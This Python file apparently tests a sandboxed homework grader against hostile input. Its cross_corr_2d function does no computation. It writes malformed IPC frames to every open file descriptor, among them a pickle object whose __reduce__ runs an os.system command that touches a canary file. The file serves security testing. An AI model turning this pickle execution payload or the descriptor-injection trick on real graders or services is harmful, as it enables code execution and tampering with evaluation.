import json
import os
import pickle
import struct

calls = [0]


def frame(header, rest=b""):
    text = json.dumps(header).encode()
    return struct.pack("<I", len(text)) + text + rest


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/homework-attack-canary",)


FRAMES = [
    struct.pack("<I", 0xFFFFFFFF),
    struct.pack("<I", 9) + b"not json!",
    struct.pack("<I", 1 << 19) + b"[" * (1 << 19),
    frame({"nonce": 1, "value": None, "buffers": [1 << 39]}),
    frame({"nonce": 1, "value": {"a": ["object", [1], None, 0]}, "buffers": [8]}, bytes(8)),
    frame({"nonce": 1, "value": {"a": ["float64", [9], [-1], 0]}, "buffers": [8]}, bytes(8)),
    frame({"nonce": 1, "value": {"a": ["float64", [1 << 39, 0], None, 0]}, "buffers": [0]}),
    frame({"nonce": 1, "value": {"p": 0}, "buffers": [len(pickle.dumps(Payload()))]}, pickle.dumps(Payload())),
    frame({"nonce": float("nan"), "value": {"i": "f" * 4000}, "buffers": []}),
    frame({"nonce": ["x"], "value": {"d": [[{"l": []}, 1]]}, "buffers": "abc"}),
]


def cross_corr_2d(X, K):
    calls[0] += 1
    for fd in range(3, 64):
        try:
            os.write(fd, FRAMES[(calls[0] + os.getpid()) % len(FRAMES)])
        except OSError:
            pass
    os._exit(0)
